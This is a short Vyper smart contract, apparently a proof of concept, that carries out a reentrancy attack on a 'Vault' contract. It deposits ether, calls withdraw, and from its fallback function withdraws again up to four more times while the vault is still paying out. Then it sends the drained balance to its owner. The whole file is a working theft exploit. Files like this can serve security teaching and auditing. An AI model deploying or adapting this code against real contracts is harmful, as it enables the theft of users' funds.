# pragma version ~=0.4.0
"""Drains a Vault by withdrawing again from inside the vault's payment."""

interface Vault:
    def deposit(): payable
    def withdraw(): nonpayable

vault: public(address)
owner: address
rounds: uint256


@deploy
def __init__(vault: address):
    self.vault = vault
    self.owner = msg.sender


@external
@payable
def attack():
    assert msg.sender == self.owner, "only the owner"
    extcall Vault(self.vault).deposit(value=msg.value)
    self.rounds = 0
    extcall Vault(self.vault).withdraw()
    send(self.owner, self.balance)


@external
@payable
def __default__():
    if msg.sender == self.vault and self.rounds < 4 and self.vault.balance >= msg.value:
        self.rounds += 1
        extcall Vault(self.vault).withdraw()
